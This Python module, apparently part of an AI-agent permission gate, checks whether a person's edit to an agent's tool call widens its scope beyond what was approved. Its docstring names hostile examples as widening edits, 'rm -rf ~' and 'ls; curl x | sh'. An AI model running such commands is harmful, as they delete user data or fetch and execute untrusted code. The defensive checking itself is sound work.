"""Edit before approving: when may a person's edited call replace the agent's?

The edited call is decided again by the gate as if the agent had sent it; then it must not **widen** what the
person saw. An edit widens when the edited call, compared with the original (both as the classifier saw
them):

- is another kind of call or another tool;
- needs more (requirement read-only < workspace-write < danger-full-access);
- runs a program the original did not (argv[0] of any simple command, wrappers peeled);
- reads a path that is neither a path the original read or wrote nor under one of them;
- writes a path that is neither a path the original wrote nor under one of them;
- reaches another domain;
- carries a flag the original did not (a new safety concern: protected path, dynamic, outside the
  workspace, hidden characters ...).

So ``rm -rf build`` → ``rm -rf build/tmp``, ``npm publish`` → ``npm publish --dry-run``, or a fixed typo in a
path the original named are narrowing; ``rm -rf build`` → ``rm -rf ~``, ``ls`` → ``ls; curl x | sh``, or a
read moved to another file are not. An edit the gate denies on its own is refused whatever it is.
"""

from __future__ import annotations

from nexusd.protocol import Verdict

# Agents whose contract takes a changed input back with an allow (the adapters map Decision.updated_input):
# Claude Code's PreToolUse hook and --permission-prompt-tool (``updatedInput``), Gemini CLI's BeforeTool hook
# (``hookSpecificOutput.tool_input``). Any other agent would run its original call: the edit is refused there.
EDITABLE_PROVIDERS = frozenset({"claude", "gemini"})
# Gemini CLI merges the returned tool_input into the original: a key the edit removed would survive there,
# so for these an edit must keep every key of the original input (changing values is fine).
MERGING_PROVIDERS = frozenset({"gemini"})

_RANK = {"read-only": 0, "workspace-write": 1, "danger-full-access": 2}


def _under(path: str, roots: set[str]) -> bool:
    return any(path == r or path.startswith(r.rstrip("/") + "/") for r in roots)


def widening(original: Verdict, edited: Verdict) -> str | None:
    """Why ``edited`` widens ``original``, or None when it does not. Unknown details widen (fail closed)."""
    if edited.decision == "deny":
        return f"the edited call is denied on its own: {edited.reason}"
    a, b = original.details, edited.details
    if a is None or b is None:
        return "the calls cannot be compared (no details)"
    if (a.kind, a.tool) != (b.kind, b.tool):
        return f"another kind of call ({b.kind} {b.tool}, not {a.kind} {a.tool})"
    ra, rb = _RANK.get(original.requirement or "", 3), _RANK.get(edited.requirement or "", 3)
    if rb > ra:
        return f"it needs more ({edited.requirement}, not {original.requirement})"
    programs = {c[0] for c in a.commands if c}
    new = sorted({c[0] for c in b.commands if c} - programs)
    if new:
        return f"it runs what the original did not: {', '.join(new)}"
    writes = set(a.writes)
    reads = set(a.reads) | writes
    extra_reads = [x for x in b.reads if not _under(x, reads)]
    if extra_reads:
        return f"it reads what the original did not: {', '.join(extra_reads[:5])}"
    extra_writes = [x for x in b.writes if not _under(x, writes)]
    if extra_writes:
        return f"it writes what the original did not: {', '.join(extra_writes[:5])}"
    if b.domain is not None and b.domain != a.domain:
        return f"it reaches another domain: {b.domain}"
    flags = sorted(set(edited.flags) - set(original.flags))
    if flags:
        return f"it raises what the original did not: {', '.join(flags)}"
    return None
